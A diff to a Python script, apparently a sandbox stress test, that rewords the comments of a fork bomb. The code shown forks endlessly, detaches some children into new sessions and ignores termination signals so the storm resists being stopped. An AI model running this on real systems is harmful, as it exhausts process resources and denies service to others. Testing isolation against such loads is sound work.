@@ -1,4 +1,4 @@
-"""A fork storm: as many processes as the node allows, in sessions of their own, some stopped, some always dying.
+"""Start a fork storm: as many processes as the node allows, some in their own session, some stopped, some short-lived.
 
 Runs inside a cell, as the agent.
 """
@@ -13,7 +13,7 @@ SESSION_EVERY, STOP_EVERY, END_EVERY = 3, 5, 7
 
 
 def storm() -> None:
-    """Forks without end; every child does the same."""
+    """Fork endlessly; every child does the same."""
     while True:
         try:
             child = os.fork() == 0
@@ -25,7 +25,7 @@ def storm() -> None:
 
 
 def live(pid: int) -> None:
-    """What becomes of a child is decided by its pid."""
+    """Start a session, stop or exit, depending on the pid of this child."""
     if pid % SESSION_EVERY == 0:
         os.setsid()
     if pid % STOP_EVERY == 0:
@@ -34,7 +34,7 @@ def live(pid: int) -> None:
         os._exit(0)
 
 
-signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # the dead are to make room
+signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # the kernel reaps children, so that new ones can start
 for ignored in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
     signal.signal(ignored, signal.SIG_IGN)
 storm()
